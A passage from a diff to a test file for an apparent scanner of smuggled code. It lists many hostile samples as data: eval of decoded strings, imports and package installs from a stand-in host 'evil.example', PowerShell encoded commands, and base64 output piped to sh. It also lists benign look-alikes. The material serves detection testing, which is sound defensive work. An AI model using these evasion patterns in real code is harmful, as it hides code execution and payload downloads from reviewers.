@@ -14,19 +14,19 @@ import { checksInLinearTime, describeAccepted, describeFindings, expectAccepted,
 // fromCharCode by subscript, a string reversed by spread or Array.from, escapes undone by JSON.parse; pickle.loads.
 const DECODER_SPELLINGS: FindingRow[] = [
   ['src/check.py', 'import base64\nexec(base64.decodebytes(s))', 'closed'],
-  ['src/check.py', "import base64\nd = getattr(base64, 'b64decode')\nexec(d(s))"],
+  ['src/check.py', "import base64\nd = getattr(base64, 'b64decode')\nexec(d(s))", 'closed'],
   ['src/check.py', 'import marshal as m\nexec(m.loads(s))', 'closed'],
   ['src/check.py', 'from marshal import loads\nexec(loads(s))', 'closed'],
-  ['src/check.py', 'import base64\nd = (base64\n  .b64decode)\nexec(d(s))'],
-  ['src/check.py', 'import base64\nd, e = base64.b64decode, 1\nexec(d(s))'],
-  ['src/check.py', 'import base64\ndef d(x):\n    return base64.b64decode(x)\nexec(d(s))'],
-  ['src/check.js', "const f = globalThis['atob'];\neval(f(s))"],
-  ['src/check.js', 'const f = atob.bind(null);\neval(f(s))'],
-  ['src/check.js', "eval(s.map(c => String['fromCharCode'](c)).join(''))"],
-  ['src/check.js', "eval([...s].reverse().join(''))"],
-  ['src/check.js', "eval(Array.from(s).reverse().join(''))"],
-  ['src/check.js', 'eval(JSON.parse(\'"\\\\u0061lert(1)"\'))'],
-  ['src/check.py', 'import pickle, base64\npickle.loads(base64.b64decode(s))'],
+  ['src/check.py', 'import base64\nd = (base64\n  .b64decode)\nexec(d(s))', 'closed'],
+  ['src/check.py', 'import base64\nd, e = base64.b64decode, 1\nexec(d(s))', 'closed'],
+  ['src/check.py', 'import base64\ndef d(x):\n    return base64.b64decode(x)\nexec(d(s))', 'closed'],
+  ['src/check.js', "const f = globalThis['atob'];\neval(f(s))", 'closed'],
+  ['src/check.js', 'const f = atob.bind(null);\neval(f(s))', 'closed'],
+  ['src/check.js', "eval(s.map(c => String['fromCharCode'](c)).join(''))", 'closed'],
+  ['src/check.js', "eval([...s].reverse().join(''))", 'closed'],
+  ['src/check.js', "eval(Array.from(s).reverse().join(''))", 'closed'],
+  ['src/check.js', 'eval(JSON.parse(\'"\\\\u0061lert(1)"\'))', 'closed'],
+  ['src/check.py', 'import pickle, base64\npickle.loads(base64.b64decode(s))', 'closed'],
 ];
 
 // The decoders attack-51 added for JS and Python (URL unescaping, more base64 forms), in other languages or other names:
@@ -38,7 +38,7 @@ const OTHER_LANGUAGES_DECODERS: FindingRow[] = [
   ['src/t.php', '<?php eval(rawurldecode($s));', 'closed'],
   ['src/t.php', '<?php eval(html_entity_decode($s));', 'closed'],
   ['src/t.php', '<?php eval(quoted_printable_decode($s));', 'closed'],
-  ['src/t.php', "<?php $f = 'base64_decode'; eval($f($s));"],
+  ['src/t.php', "<?php $f = 'base64_decode'; eval($f($s));", 'closed'],
   ['src/t.pl', 'eval(uri_unescape($s));', 'closed'],
   ['src/t.rb', 'eval(URI.decode_www_form_component(s))', 'closed'],
   ['src/t.java', 'Runtime.getRuntime().exec(URLDecoder.decode(s, "UTF-8"));', 'closed'],
@@ -67,8 +67,8 @@ const POWERSHELL_ENCODED: FindingRow[] = [
   ['src/check.js', "spawnSync('pwsh.exe', ['\u2013enc', blob])", 'closed'],
   ['src/check.js', "spawnSync('pwsh', ['\u2014EncodedCommand', blob])", 'closed'],
   ['src/check.js', "const ps = 'pwsh';\nspawnSync(ps, ['-enc', blob])", 'closed'],
-  ['src/run.py', "import os\nos.system('pwsh -{} {}'.format('enc', blob))"],
-  ['src/run.py', "import os\nos.system('pwsh -%s %s' % ('enc', blob))"],
+  ['src/run.py', "import os\nos.system('pwsh -{} {}'.format('enc', blob))", 'closed'],
+  ['src/run.py', "import os\nos.system('pwsh -%s %s' % ('enc', blob))", 'closed'],
   ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "powershell",\n    Arguments = "-enc " + blob,\n};\nProcess.Start(psi);'],
 ];
 
@@ -77,19 +77,19 @@ const POWERSHELL_ENCODED: FindingRow[] = [
 // function, a parenthesized name, destructuring, a data: URL through a name.
 const MODULE_HOST: FindingRow[] = [
   ['src/load.js', "await import(\n  'https://evil.example/x.js'\n)", 'closed'],
-  ['src/load.js', "const cfg = { src: 'https://evil.example/x.js' };\nawait import(cfg.src)"],
-  ['src/load.js', "const u = ['https://evil.example', 'x.js'].join('/');\nawait import(u)"],
-  ['src/load.js', "const u = 'https:\\/\\/evil.example/x.js';\nawait import(u)"],
-  ['src/load.js', "const u = String('https://evil.example/x.js');\nawait import(u)"],
-  ['src/load.js', "const u = new URL('https://evil.example/x.js');\nawait import(u)"],
-  ['src/load.js', "const u = new URL('https://evil.example/x.js').href;\nawait import(u)"],
-  ['src/load.js', "const base = new URL('https://evil.example/');\nawait import(new URL('x.js', base))"],
-  ['src/load.js', "await import(String(new URL('x.js', 'https://evil.example/')))"],
+  ['src/load.js', "const cfg = { src: 'https://evil.example/x.js' };\nawait import(cfg.src)", 'closed'],
+  ['src/load.js', "const u = ['https://evil.example', 'x.js'].join('/');\nawait import(u)", 'closed'],
+  ['src/load.js', "const u = 'https:\\/\\/evil.example/x.js';\nawait import(u)", 'closed'],
+  ['src/load.js', "const u = String('https://evil.example/x.js');\nawait import(u)", 'closed'],
+  ['src/load.js', "const u = new URL('https://evil.example/x.js');\nawait import(u)", 'closed'],
+  ['src/load.js', "const u = new URL('https://evil.example/x.js').href;\nawait import(u)", 'closed'],
+  ['src/load.js', "const base = new URL('https://evil.example/');\nawait import(new URL('x.js', base))", 'closed'],
+  ['src/load.js', "await import(String(new URL('x.js', 'https://evil.example/')))", 'closed'],
   ['src/load.ts', "const u: string = 'https://evil.example/x.js';\nawait import(u)", 'closed'],
-  ['src/load.js', "const load = (u) => import(u);\nawait load('https://evil.example/x.js')"],
-  ['src/load.js', "const u = 'https://evil.example/x.js';\nawait import((u))"],
-  ['src/load.js', "const {u} = {u: 'https://evil.example/x.js'};\nawait import(u)"],
-  ['src/load.js', "const u = 'data:text/javascript,' + payload;\nawait import(u)"],
+  ['src/load.js', "const load = (u) => import(u);\nawait load('https://evil.example/x.js')", 'closed'],
+  ['src/load.js', "const u = 'https://evil.example/x.js';\nawait import((u))", 'closed'],
+  ['src/load.js', "const {u} = {u: 'https://evil.example/x.js'};\nawait import(u)", 'closed'],
+  ['src/load.js', "const u = 'data:text/javascript,' + payload;\nawait import(u)", 'closed'],
 ];
 
 // A computed program given an install: an option given a value before the verb, Python's f/r string prefixes, the
@@ -109,10 +109,10 @@ const COMPUTED_PROGRAM: FindingRow[] = [
   ['src/check.js', "spawnSync(tool, ['x', 'evil'])", 'closed'],
   ['src/check.js', "spawnSync(tool, ['it', 'evil'])", 'closed'],
   ['src/check.py', "import subprocess\nsubprocess.run(['/usr/bin/env', tool, 'install', 'evil'])", 'closed'],
-  ['src/check.rb', 'system(tool, *%w[install evil])'],
-  ['src/check.rb', "system(tool, %q(install), 'evil')"],
-  ['src/check.rs', 'Command::new(tool).arg("install").arg("evil").status()?;'],
-  ['src/check.rs', 'Command::new(tool).args(["--yes", "install", "evil"]).status()?;'],
+  ['src/check.rb', 'system(tool, *%w[install evil])', 'closed'],
+  ['src/check.rb', "system(tool, %q(install), 'evil')", 'closed'],
+  ['src/check.rs', 'Command::new(tool).arg("install").arg("evil").status()?;', 'closed'],
+  ['src/check.rs', 'Command::new(tool).args(["--yes", "install", "evil"]).status()?;', 'closed'],
 ];
 
 // Dependencies a source file declares or installs itself: the same installers under other names (micropip, Pkg, R's,
@@ -120,40 +120,40 @@ const COMPUTED_PROGRAM: FindingRow[] = [
 // script's frontmatter, rust-script, stack and cabal script headers, a nix-shell shebang, pip-run's __requires__,
 // Pyodide's loadPackage, CPAN::Shell, Composer's Application, Deno's npm: specifier through a name.
 const SOURCE_DEPENDENCIES: FindingRow[] = [
-  ['src/tool.py', "from micropip import install\nawait install('evil')"],
-  ['src/tool.py', "import micropip as mp\nawait mp.install('evil')"],
-  ['src/tool.py', "__requires__ = ['evil']"],
-  ['src/tool.js', "await pyodide.loadPackage('https://evil.example/evil-1.0-py3-none-any.whl')"],
-  ['src/tool.jl', 'using Pkg: add\nadd("Evil")'],
-  ['src/tool.jl', 'import Pkg as P\nP.add("Evil")'],
-  ['src/tool.jl', 'import Pkg\nPkg.REPLMode.pkgstr("add Evil")'],
-  ['src/tool.jl', 'using Pkg\nPkg.Registry.add(RegistrySpec(url = "https://evil.example/Registry"))'],
-  ['src/tool.jl', 'import Pkg\n(Pkg.add)("Evil")'],
-  ['src/tool.jl', 'import Pkg\nPkg.add.(["Evil"])'],
-  ['src/tool.R', "pacman::p_load_gh('evil/pkg')"],
-  ['src/tool.R', "library(pak)\npkg_install('evil/pkg')"],
-  ['src/tool.R', "do.call(install.packages, list('evil'))"],
-  ['src/tool.R', "lapply(c('evil'), install.packages)"],
-  ['src/tool.R', "`install.packages`('evil')"],
-  ['src/tool.R', "install.packages\n('evil')"],
-  ['src/tool.R', "f <- install.packages\nf('evil')"],
-  ['src/tool.rb', "require File.join('bundler', 'inline')\ngemfile true do\n  gem 'evil'\nend"],
-  ['src/tool.rb', "Gem::Commands::InstallCommand.new.invoke('evil')"],
-  ['src/tool.rb', "Gem.send(:install, 'evil')"],
-  ['src/tool.rb', "Gem\n  .install('evil')"],
-  ['src/tool.groovy', "Grape.&grab.call(group: 'org.evil', module: 'evil', version: '1.0')"],
-  ['src/tool.groovy', 'Grape."grab"(group: \'org.evil\', module: \'evil\', version: \'1.0\')'],
-  ['src/Tool.java', '//DEPS org.evil:evil:1.0\n//REPOS https://evil.example/m2'],
-  ['src/Tool.cs', '#:package Evil@1.0\nConsole.WriteLine(1);'],
-  ['src/Tool.cs', '#:sdk Evil.Sdk@1.0\nConsole.WriteLine(1);'],
-  ['src/tool.rs', '---cargo\n[dependencies]\nevil = "1"\n---\nfn main() {}'],
-  ['src/tool.rs', '//! ```cargo\n//! [dependencies]\n//! evil = "1"\n//! ```\nfn main() {}'],
-  ['src/tool.hs', '{- stack script --resolver lts-21.0 --package evil -}\nmain = pure ()'],
-  ['src/tool.hs', '{- cabal:\nbuild-depends: base, evil\n-}\nmain = pure ()'],
-  ['src/tool.py', '#! /usr/bin/env nix-shell\n#! nix-shell -i python3 -p python3Packages.evil'],
-  ['src/tool.pl', "use CPAN;\nCPAN::Shell->install('Evil::Module');"],
-  ['src/tool.php', "<?php\n(new Composer\\Console\\Application())->run(new ArrayInput(['command' => 'require', 'packages' => ['evil/evil']]));"],
-  ['src/tool.ts', "const p = 'npm:evil';\nconst evil = await import(p)"],
+  ['src/tool.py', "from micropip import install\nawait install('evil')", 'closed'],
+  ['src/tool.py', "import micropip as mp\nawait mp.install('evil')", 'closed'],
+  ['src/tool.py', "__requires__ = ['evil']", 'closed'],
+  ['src/tool.js', "await pyodide.loadPackage('https://evil.example/evil-1.0-py3-none-any.whl')", 'closed'],
+  ['src/tool.jl', 'using Pkg: add\nadd("Evil")', 'closed'],
+  ['src/tool.jl', 'import Pkg as P\nP.add("Evil")', 'closed'],
+  ['src/tool.jl', 'import Pkg\nPkg.REPLMode.pkgstr("add Evil")', 'closed'],
+  ['src/tool.jl', 'using Pkg\nPkg.Registry.add(RegistrySpec(url = "https://evil.example/Registry"))', 'closed'],
+  ['src/tool.jl', 'import Pkg\n(Pkg.add)("Evil")', 'closed'],
+  ['src/tool.jl', 'import Pkg\nPkg.add.(["Evil"])', 'closed'],
+  ['src/tool.R', "pacman::p_load_gh('evil/pkg')", 'closed'],
+  ['src/tool.R', "library(pak)\npkg_install('evil/pkg')", 'closed'],
+  ['src/tool.R', "do.call(install.packages, list('evil'))", 'closed'],
+  ['src/tool.R', "lapply(c('evil'), install.packages)", 'closed'],
+  ['src/tool.R', "`install.packages`('evil')", 'closed'],
+  ['src/tool.R', "install.packages\n('evil')", 'closed'],
+  ['src/tool.R', "f <- install.packages\nf('evil')", 'closed'],
+  ['src/tool.rb', "require File.join('bundler', 'inline')\ngemfile true do\n  gem 'evil'\nend", 'closed'],
+  ['src/tool.rb', "Gem::Commands::InstallCommand.new.invoke('evil')", 'closed'],
+  ['src/tool.rb', "Gem.send(:install, 'evil')", 'closed'],
+  ['src/tool.rb', "Gem\n  .install('evil')", 'closed'],
+  ['src/tool.groovy', "Grape.&grab.call(group: 'org.evil', module: 'evil', version: '1.0')", 'closed'],
+  ['src/tool.groovy', 'Grape."grab"(group: \'org.evil\', module: \'evil\', version: \'1.0\')', 'closed'],
+  ['src/Tool.java', '//DEPS org.evil:evil:1.0\n//REPOS https://evil.example/m2', 'closed'],
+  ['src/Tool.cs', '#:package Evil@1.0\nConsole.WriteLine(1);', 'closed'],
+  ['src/Tool.cs', '#:sdk Evil.Sdk@1.0\nConsole.WriteLine(1);', 'closed'],
+  ['src/tool.rs', '---cargo\n[dependencies]\nevil = "1"\n---\nfn main() {}', 'closed'],
+  ['src/tool.rs', '//! ```cargo\n//! [dependencies]\n//! evil = "1"\n//! ```\nfn main() {}', 'closed'],
+  ['src/tool.hs', '{- stack script --resolver lts-21.0 --package evil -}\nmain = pure ()', 'closed'],
+  ['src/tool.hs', '{- cabal:\nbuild-depends: base, evil\n-}\nmain = pure ()', 'closed'],
+  ['src/tool.py', '#! /usr/bin/env nix-shell\n#! nix-shell -i python3 -p python3Packages.evil', 'closed'],
+  ['src/tool.pl', "use CPAN;\nCPAN::Shell->install('Evil::Module');", 'closed'],
+  ['src/tool.php', "<?php\n(new Composer\\Console\\Application())->run(new ArrayInput(['command' => 'require', 'packages' => ['evil/evil']]));", 'closed'],
+  ['src/tool.ts', "const p = 'npm:evil';\nconst evil = await import(p)", 'closed'],
 ];
 
 // Documentation the tests run, writing a manager's configuration: an unlabelled fence (rustdoc runs it as Rust), rustdoc's
@@ -165,52 +165,140 @@ const DOCTESTS: FindingRow[] = [
   ['README.md', `\`\`\`standalone_crate\n${CARGO_CONFIG}\n\`\`\``, 'closed'],
   ['README.md', `\`\`\`test_harness\n#[test]\nfn t() { ${CARGO_CONFIG} }\n\`\`\``, 'closed'],
   ['README.md', ">>> import os\n>>> os.environ[\n...     'PIP_INDEX_URL'] = 'https://evil.example/simple'", 'closed'],
-  ['docs/usage.rst', ".. testcode::\n\n   import os\n   os.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'"],
-  ['docs/usage.rst', ".. testsetup:: *\n\n   import os\n   os.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'"],
-  ['README.md', "```python\nimport os\nos.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'\n```"],
+  ['docs/usage.rst', ".. testcode::\n\n   import os\n   os.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'", 'closed'],
+  ['docs/usage.rst', ".. testsetup:: *\n\n   import os\n   os.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'", 'closed'],
+  ['README.md', "```python\nimport os\nos.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'\n```", 'closed'],
 ];
 
 // ProcessStartInfo over several lines, or in forms the reading does not open on: the type qualified, C# 9's target-typed
 // new(), properties set as statements, a `}` inside an interpolation before FileName, verbatim or interpolated strings,
 // ArgumentList, more than 12 lines, a joined or named FileName, Arguments before FileName, VB.NET's `With`.
 const START_INFO: FindingRow[] = [
-  ['src/Run.cs', 'var psi = new System.Diagnostics.ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = "install evil",\n};\nProcess.Start(psi);'],
-  ['src/Run.cs', 'ProcessStartInfo psi = new()\n{\n    FileName = "npm",\n    Arguments = "install evil",\n};\nProcess.Start(psi);'],
-  ['src/Run.cs', 'var psi = new ProcessStartInfo();\npsi.FileName = "npm";\npsi.Arguments = "install evil";\nProcess.Start(psi);'],
-  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    WorkingDirectory = $"{root}/app",\n    FileName = "npm",\n    Arguments = "install evil",\n};\nProcess.Start(psi);'],
-  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = @"npm",\n    Arguments = @"install evil",\n};\nProcess.Start(psi);'],
-  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = $"install {pkg}",\n};\nProcess.Start(psi);'],
-  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    ArgumentList = { "install", "evil" },\n};\nProcess.Start(psi);'],
-  ['src/Run.cs', 'var psi = new ProcessStartInfo("npm");\npsi.ArgumentList.Add("install");\npsi.ArgumentList.Add("evil");\nProcess.Start(psi);'],
+  ['src/Run.cs', 'var psi = new System.Diagnostics.ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = "install evil",\n};\nProcess.Start(psi);', 'closed'],
+  ['src/Run.cs', 'ProcessStartInfo psi = new()\n{\n    FileName = "npm",\n    Arguments = "install evil",\n};\nProcess.Start(psi);', 'closed'],
+  ['src/Run.cs', 'var psi = new ProcessStartInfo();\npsi.FileName = "npm";\npsi.Arguments = "install evil";\nProcess.Start(psi);', 'closed'],
+  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    WorkingDirectory = $"{root}/app",\n    FileName = "npm",\n    Arguments = "install evil",\n};\nProcess.Start(psi);', 'closed'],
+  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = @"npm",\n    Arguments = @"install evil",\n};\nProcess.Start(psi);', 'closed'],
+  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    Arguments = $"install {pkg}",\n};\nProcess.Start(psi);', 'closed'],
+  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    ArgumentList = { "install", "evil" },\n};\nProcess.Start(psi);', 'closed'],
+  ['src/Run.cs', 'var psi = new ProcessStartInfo("npm");\npsi.ArgumentList.Add("install");\npsi.ArgumentList.Add("evil");\nProcess.Start(psi);', 'closed'],
   [
     'src/Run.cs',
     'var psi = new ProcessStartInfo\n{\n    FileName = "npm",\n    RedirectStandardOutput = true,\n    UseShellExecute = false,\n    CreateNoWindow = true,\n    RedirectStandardError = true,\n    RedirectStandardInput = false,\n    LoadUserProfile = false,\n    ErrorDialog = false,\n    WindowStyle = ProcessWindowStyle.Hidden,\n    Verb = "open",\n    Arguments = "install evil",\n};\nProcess.Start(psi);',
+    'closed',
   ],
-  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "np" + "m",\n    Arguments = "install evil",\n};\nProcess.Start(psi);'],
-  ['src/Run.cs', 'const string Npm = "npm";\nvar psi = new ProcessStartInfo\n{\n    FileName = Npm,\n    Arguments = "install evil",\n};\nProcess.Start(psi);'],
-  ['src/Run.cs', 'var psi = new ProcessStartInfo { Arguments = "install evil", FileName = "npm" };\nProcess.Start(psi);'],
-  ['src/Run.vb', 'Dim psi As New ProcessStartInfo With {\n    .FileName = "npm",\n    .Arguments = "install evil"\n}\nProcess.Start(psi)'],
+  ['src/Run.cs', 'var psi = new ProcessStartInfo\n{\n    FileName = "np" + "m",\n    Arguments = "install evil",\n};\nProcess.Start(psi);', 'closed'],
+  ['src/Run.cs', 'const string Npm = "npm";\nvar psi = new ProcessStartInfo\n{\n    FileName = Npm,\n    Arguments = "install evil",\n};\nProcess.Start(psi);', 'closed'],
+  ['src/Run.cs', 'var psi = new ProcessStartInfo { Arguments = "install evil", FileName = "npm" };\nProcess.Start(psi);', 'closed'],
+  ['src/Run.vb', 'Dim psi As New ProcessStartInfo With {\n    .FileName = "npm",\n    .Arguments = "install evil"\n}\nProcess.Start(psi)', 'closed'],
 ];
+
+// Session 50: process-calls.ts reads a ProcessStartInfo's program and arguments wherever the lines after the type set
+// them, and Ruby's and Perl's word lists as the lists they make; patch.ts reads Rust's `.arg(` after a computed program.
+describeAccepted('attack-52: ProcessStartInfo and computed programs, ordinary code near the session-50 readings', [
+  ['src/Run.cs', 'var psi = new ProcessStartInfo { FileName = "dotnet", Arguments = $"test {project}" };\nProcess.Start(psi);'],
+  ['src/Run.cs', 'var psi = new ProcessStartInfo();\npsi.FileName = "git";\npsi.ArgumentList.Add("status");\nProcess.Start(psi);'],
+  ['src/Run.cs', 'ProcessStartInfo psi = new()\n{\n    WorkingDirectory = $"{root}/web",\n    FileName = "npm",\n    ArgumentList = { "run", "build" },\n};\nProcess.Start(psi);'],
+  ['src/Run.vb', 'Dim psi As New ProcessStartInfo With {\n    .FileName = "npm",\n    .Arguments = "test"\n}\nProcess.Start(psi)'],
+  ['src/Run.cs', 'const string Npm = "npm";\nvar psi = new ProcessStartInfo(Npm, "test");\nProcess.Start(psi);'],
+  ['src/Run.cs', 'var psi = new ProcessStartInfo(Path.Combine(root, "tools", "gen.exe"), "--out build");\nusing var p = Process.Start(psi);\np.WaitForExit();'],
+  ['src/Run.cs', 'var psi = new System.Diagnostics.ProcessStartInfo\n{\n    FileName = "np" + "m",\n    Arguments = @"run lint",\n};'],
+  ['src/check.rs', 'Command::new(tool).arg("build").arg("--release").status()?;'],
+  ['src/check.rs', 'Command::new(cargo).args(["--locked", "test"]).status()?;'],
+  ['src/check.rb', 'system(tool, *%w[build --release])'],
+  ['src/check.rb', "system(tool, %q(test), 'unit')\nputs %w[a b c].join(' ')"],
+  ['src/check.pl', 'system($tool, qw(make test));'],
+  ['src/Run.cs', 'var p = new Process();\np.StartInfo.FileName = "npm";\np.StartInfo.Arguments = "run build";\np.Start();'],
+]);
+
+describe('attack-52: refused beside the session-50 ProcessStartInfo reading', () => {
+  it.each([
+    ['src/Run.cs', 'var p = new Process();\np.StartInfo.FileName = "npm";\np.StartInfo.Arguments = "install evil";\np.Start();'],
+    ['src/Tool.cs', 'var a = new ProcessStartInfo { FileName = "git", Arguments = "status" };\nvar b = new ProcessStartInfo { FileName = "npm", Arguments = "install evil" };'],
+  ] as const)('refuses, in %s: %s', (path, text) => expectRefused(path, text));
+});
 
 // A shell decoder's output run where shell-decoders.ts does not look: a backtick substitution, a substitution after
 // sudo/exec/env, the decoded file written by one call and run by the next, through tee, by `exec`, after a `cd`, other
 // decompressors (lz4, lzip, unzip -p), rot13 tr with brackets, ANSI-C $'\x..' quoting, iconv from UTF-16.
 const SHELL_DECODERS: FindingRow[] = [
-  ['src/t.py', "import os\nos.system('`echo x | base64 -d`')"],
-  ['src/t.py', "import os\nos.system('sudo $(echo x | base64 -d)')"],
-  ['src/t.py', "import os\nos.system('exec $(echo x | base64 -d)')"],
-  ['src/t.py', "import os\nos.system('env $(echo x | base64 -d)')"],
-  ['src/t.py', "import os\nos.system('echo x | base64 -d > /tmp/p')\nos.system('sh /tmp/p')"],
-  ['src/t.py', "import os\nos.system('echo x | base64 -d | tee /tmp/p >/dev/null && sh /tmp/p')"],
-  ['src/t.py', "import os\nos.system('echo x | base64 -d > /tmp/p && chmod +x /tmp/p && exec /tmp/p')"],
-  ['src/t.py', "import os\nos.system('cd /tmp && echo x | base64 -d > p && sh /tmp/p')"],
-  ['src/t.py', "import os\nos.system('echo x | lz4 -d | sh')"],
-  ['src/t.py', "import os\nos.system('echo x | lzip -d | sh')"],
-  ['src/t.py', "import os\nos.system('echo x | unzip -p - | sh')"],
-  ['src/t.py', 'import os\nos.system(\'echo x | tr "[A-Za-z]" "[N-ZA-Mn-za-m]" | sh\')'],
-  ['src/t.py', "import os\nos.system(\"echo $'\\\\x6e\\\\x70\\\\x78 evil' | sh\")"],
-  ['src/t.py', "import os\nos.system('echo x | iconv -f utf-16 | sh')"],
+  ['src/t.py', "import os\nos.system('`echo x | base64 -d`')", 'closed'],
+  ['src/t.py', "import os\nos.system('sudo $(echo x | base64 -d)')", 'closed'],
+  ['src/t.py', "import os\nos.system('exec $(echo x | base64 -d)')", 'closed'],
+  ['src/t.py', "import os\nos.system('env $(echo x | base64 -d)')", 'closed'],
+  ['src/t.py', "import os\nos.system('echo x | base64 -d > /tmp/p')\nos.system('sh /tmp/p')", 'closed'],
+  ['src/t.py', "import os\nos.system('echo x | base64 -d | tee /tmp/p >/dev/null && sh /tmp/p')", 'closed'],
+  ['src/t.py', "import os\nos.system('echo x | base64 -d > /tmp/p && chmod +x /tmp/p && exec /tmp/p')", 'closed'],
+  ['src/t.py', "import os\nos.system('cd /tmp && echo x | base64 -d > p && sh /tmp/p')", 'closed'],
+  ['src/t.py', "import os\nos.system('echo x | lz4 -d | sh')", 'closed'],
+  ['src/t.py', "import os\nos.system('echo x | lzip -d | sh')", 'closed'],
+  ['src/t.py', "import os\nos.system('echo x | unzip -p - | sh')", 'closed'],
+  ['src/t.py', 'import os\nos.system(\'echo x | tr "[A-Za-z]" "[N-ZA-Mn-za-m]" | sh\')', 'closed'],
+  ['src/t.py', "import os\nos.system(\"echo $'\\\\x6e\\\\x70\\\\x78 evil' | sh\")", 'closed'],
+  ['src/t.py', "import os\nos.system('echo x | iconv -f utf-16 | sh')", 'closed'],
 ];
+
+// Session 50: source-dependencies.ts's tables read the other spellings and languages above (micropip imported, Julia's
+// Pkg named or aliased, R's installers named or attached, RubyGems sent or run as a command, JBang, .NET 10, cargo
+// and rust-script, stack and cabal, nix-shell, CPAN, Composer, Deno's specifiers); beside them, ordinary code.
+describeAccepted('attack-52: dependencies in source, ordinary code near the session-50 readings', [
+  ['src/tool.py', "requires = ['requests']\nfrom pyodide.http import pyfetch"],
+  ['src/tool.jl', 'using Pkg\nPkg.activate(".")\nPkg.instantiate()\nPkg.status()'],
+  ['src/tool.R', "library(dplyr)\nif (!'dplyr' %in% rownames(installed.packages())) stop('missing')"],
+  ['src/tool.rb', "gemfile = File.read('Gemfile')\ngemfile.each_line do |l|\n  puts l\nend\nputs Gem::Version.new('1.0')"],
+  ['src/Tool.java', '// DEPS are declared in pom.xml\nclass Tool {}'],
+  ['src/Tool.cs', '#region Setup\n#if DEBUG\nConsole.WriteLine(1);\n#endif\n#endregion'],
+  ['src/tool.rs', '// ---- helpers ----\n/// ```\n/// assert!(true);\n/// ```\nfn main() {}'],
+  ['src/tool.hs', '{-# LANGUAGE OverloadedStrings #-}\nmain = pure ()'],
+  ['src/tool.pl', "use CPAN::Meta;\nmy $meta = CPAN::Meta->load_file('META.json');"],
+  ['src/tool.php', '<?php\nuse Composer\\Autoload\\ClassLoader;'],
+  ['docs/nix.md', '```python\n#! /usr/bin/env nix-shell\nprint(1)\n```'],
+  ['src/tool.ts', "const registry = 'https://registry.npmjs.org/';\nconst mod = await import('./local.ts');"],
+]);
+
+// Session 50: smuggled-code.ts reads a name's address opened by `String(`, `new URL(`, an array or an object, its slashes
+// escaped, a `data:` URL, the import's name in parentheses or `String(…)`, and a function importing its parameter.
+describeAccepted('attack-52: modules from another host, ordinary code near the session-50 readings', [
+  ['src/load.js', "const cfg = { name: 'app', locale: 'en' };\nconst messages = await import(`./locales/${cfg.locale}.js`);"],
+  ['src/load.js', "const u = new URL('./worker.js', import.meta.url);\nconst w = new Worker(u, { type: 'module' });"],
+  ['src/load.js', "const load = (p) => import(p);\nawait load('./plugins/a.js');"],
+  ['src/load.js', "const home = { url: 'https://example.com' };\nconsole.log(home.url);\nconst m = await import('./local.js');"],
+  ['src/load.js', "const dataUrl = 'data:image/png;base64,' + b64;\nimg.src = dataUrl;"],
+  ['src/load.js', "const p = // https://cdn.example is where this was before\n  './local.js';\nawait import(p);"],
+]);
+
+// Session 50: doc-tests.ts reads Python's blocks whole and Sphinx's testcode/testsetup blocks as code the tests run.
+describeAccepted('attack-52: documentation the tests run, ordinary docs near the session-50 readings', [
+  ['docs/usage.rst', '.. testcode::\n\n   total = add(1, 2)\n   print(total)\n\nThe index is set with ``PIP_INDEX_URL``.'],
+  ['docs/usage.md', "```python\nimport os\nindex = os.environ.get('PIP_INDEX_URL', 'https://pypi.org/simple')\nprint(index)\n```"],
+  ['docs/usage.md', 'Set `PIP_INDEX_URL=https://mirror.example/simple` in your shell.\n\n```python\nimport requests\nrequests.get(url, timeout=5)\n```'],
+]);
+
+// Session 50: code-sinks.ts reads a decoder bound by getattr, a subscript, `.bind`, a tuple, parentheses or a wrapper
+// function returning its call; characters reversed and joined; JSON.parse of a JSON string; an unpickler as a sink.
+describeAccepted('attack-52: decoders under other names, ordinary code near the session-50 readings', [
+  ['src/t.py', "import base64\ndecode = getattr(base64, 'b64decode')\ntoken = decode(os.environ['TOKEN'])\nprint(len(token))"],
+  ['src/t.py', 'def decode_token(raw):\n    return base64.b64decode(raw)\nuser = json.loads(decode_token(header))'],
+  ['src/t.js', "const decode = (s) => atob(s);\nconst user = JSON.parse(decode(token.split('.')[1]));"],
+  ['src/t.js', "const host = domain.split('.').reverse().join('.');\nexecSync(`dig ${host}`)"],
+  ['src/t.js', "const label = [...name].reverse().join('');\nconsole.log(label)"],
+  ['src/t.js', 'const cfg = JSON.parse(\'{"a": 1}\');\nconst s = JSON.parse(\'"quoted"\');\nconsole.log(cfg, s)'],
+  ['src/t.php', "<?php\n$f = 'base64_decode';\necho $f($s);"],
+  ['src/t.py', 'd, e = divmod(total, 60)\nprint(d, e)'],
+]);
+
+// Session 50: shell-decoders.ts reads the rows above (backticks, prefixes that run their command, the decoded file run
+// by a later call or after a `cd`, more decoders). Beside them, ordinary shell a doc or a script holds.
+describeAccepted('attack-52: shell decoders, ordinary code near the session-50 readings', [
+  ['src/t.py', "import os\nos.system('echo \"$CERT\" | base64 -d > /tmp/cert.pem')\nos.system('openssl x509 -in /tmp/cert.pem -noout')"],
+  ['src/t.py', "import os\nos.system('sudo $(which systemctl) restart app')"],
+  ['docs/usage.md', '| command | what it does |\n| --- | --- |\n| `echo aGk= | base64 -d` | prints hi |'],
+  ['docs/usage.md', "```sh\nIFS=$'\\n'\nprintf $'\\033[1m%s\\033[0m\\n' \"$title\" | tee build.log\nsh build.sh\n```"],
+  ['docs/usage.md', '```sh\nunzip -q dist.zip -d out && sh out/install.sh\n```'],
